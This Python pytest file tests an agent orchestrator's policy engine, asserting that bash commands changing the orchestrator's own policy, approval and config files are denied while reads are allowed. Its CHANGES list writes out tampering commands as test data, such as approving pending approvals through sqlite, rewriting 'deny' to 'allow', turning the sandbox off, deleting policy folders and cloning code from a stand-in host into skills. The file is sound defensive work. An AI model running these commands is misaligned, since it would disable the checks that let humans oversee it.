"""A task can't change what it is judged by: the orchestrator's own folders, in every way of writing there."""

from __future__ import annotations

import pytest
from standard_rules import RULES

from orchestrator.outcome import Call
from orchestrator.policy.decide import Context, decide

HOME, WORKSPACE = "/home/user", "/home/user/work"

CHANGES = r"""
sqlite3 state/approvals.db "update approvals set status='approved'"
sqlite3 state/memory.db < fix.sql
cd src/.. && d=$(ls -d p*y) && : > "$d/default.yaml"
: > "$(ls policy/*.toml | head -1)"
jq '.auto=true' config/runner.json > /tmp/r && cat /tmp/r | tee config/runner.json >/dev/null
git stash push -- policy
git clean -fdx policy
git -C policy checkout .
git clone https://x.example/r skills/evil
cd policy && patch -p0 < /tmp/x.patch
cd skills && tar xf /tmp/e.tar
awk -i inplace '{gsub("deny","allow")}1' policy/10-files.toml
crudini --set config/orchestrator.toml trust hosts '*'
dasel put -f config/x.toml -v true sandbox.off
sd deny points policy/10-files.toml
sed -n 'w policy/10-files.toml' x
touch state/approvals/tsk_x.json
find . -name '*.toml' -path '*policy*' -delete
find . -maxdepth 1 -name 'pol*' -exec rm -r {} +
grep -rl deny policy | xargs sed -i s/deny/points/
grep -l deny policy/*.toml | while read f; do sed -i s/deny/points/ "$f"; done
rm -rf polic?
rm -rf ./{policy,config}
mount --bind /tmp/p policy
7z x e.7z -opolicy
python3 -m zipfile -e e.zip policy
python3 patch.py policy/10-files.toml
frobnicate policy/10-files.toml
ruby -e 'File.write("policy/x.toml","")'
find . -maxdepth 1 -name 'polic?' -exec rm -rf {} +
tar xf /tmp/update.tar --overwrite skills/
tar -xzf u.tgz --exclude '*.md' policy/10-files.toml
7z x u.7z skills/bash/skill.toml
bsdtar -xf u.zip --include 'policy/*'
""".strip().splitlines()

READS = r"""
sqlite3 state/memory.db 'select count(*) from notes'
sqlite3 -header -csv state/memory.db "SELECT * FROM notes" > notes.csv
git diff -- policy
git add policy skills
cp -r policy /tmp/policy-copy
tail -F state/telemetry/2026-01-01.ndjson
jq . config/runner.json
sed -n 1,5p policy/a.toml
vim -R policy/10-files.toml
pytest -c config/pytest.ini
docker compose -f config/compose.yml ps
terraform state list
npm config get registry
rm -rf src/policy
cat p*y/*.toml
python3 -m json.tool config/runner.json
grep -rl deny policy | wc -l
cd policy && git status
""".strip().splitlines()


def verdict(script: str) -> str:
    argv = ("bash", "-c", script)
    call = Call(0, "bash", "process", argv[1:], argv, {"HOME": HOME}, WORKSPACE, 1_000)
    context = Context(risk="low", home_dir=WORKSPACE, workspace=WORKSPACE, user_home=HOME)
    return decide(call, RULES, context).verdict


@pytest.mark.parametrize("script", CHANGES)
def test_the_own_folders_cannot_be_changed(script: str) -> None:
    assert verdict(script) == "deny"


@pytest.mark.parametrize("script", READS)
def test_the_own_folders_can_be_read(script: str) -> None:
    assert verdict(script) == "allow"
